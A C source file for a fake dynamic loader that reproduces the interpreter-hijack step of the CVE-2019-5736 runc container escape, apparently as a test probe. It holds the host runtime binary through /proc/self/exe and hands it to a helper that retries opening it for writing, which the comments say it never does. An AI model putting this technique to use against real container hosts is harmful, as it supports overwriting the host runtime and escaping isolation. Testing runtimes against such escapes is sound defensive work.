/* A fake ELF interpreter for the "#!/proc/self/exe" attack (CVE-2019-5736):
 * placed in the container as /lib64/ld-linux-x86-64.so.2, it runs when the
 * kernel executes a dynamically linked host binary (the runtime's own
 * interpreter, reached through /proc/self/exe) inside the container. It then
 * holds that binary: it logs what /proc/self/exe is (LD <dev> <ino>) to
 * /out/ld.log, keeps an O_PATH fd to it as fd 3 and execs
 * `/attack reopen 3 /out/ld.log 1500`, which, from a child that outlives
 * the exec, tries to reopen it for writing until the binary is no longer
 * executed by anyone, for 1.5 s (never writing).
 * Built with -nostdlib (x86_64 syscalls inline) at an address that cannot
 * collide with a non-PIE executable. */
#define O_WRONLY 01
#define O_CREAT 0100
#define O_APPEND 02000
#define O_PATH 010000000

static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static char *utoa(unsigned long v, char *end) {
    *--end = 0;
    do { *--end = '0' + v % 10; v /= 10; } while (v);
    return end;
}

static long slen(const char *s) { const volatile char *p = s; long n = 0; while (p[n]) n++; return n; }

__attribute__((force_align_arg_pointer, noreturn)) void _start(void) {
    long log = sys3(2, (long)"/out/ld.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    long fd = sys3(2, (long)"/proc/self/exe", O_PATH, 0);
    unsigned long st[18] = {0}; /* struct stat: st_dev at 0, st_ino at 8 */
    char b1[32], b2[32];
    if (fd >= 0 && sys3(5, fd, (long)st, 0) == 0) {
        char *d = utoa(st[0], b1 + sizeof b1), *i = utoa(st[1], b2 + sizeof b2);
        sys3(1, log, (long)"LD ", 3);
        sys3(1, log, (long)d, slen(d));
        sys3(1, log, (long)" ", 1);
        sys3(1, log, (long)i, slen(i));
        sys3(1, log, (long)"\n", 1);
        if (fd != 3) sys3(33, fd, 3, 0); /* dup2: not CLOEXEC */
        char *argv[] = {"/attack", "reopen", "3", "/out/ld.log", "1500", 0};
        sys3(59, (long)"/attack", (long)argv, 0);
    } else {
        sys3(1, log, (long)"LD none\n", 8);
    }
    sys3(60, 1, 0, 0);
    __builtin_unreachable();
}
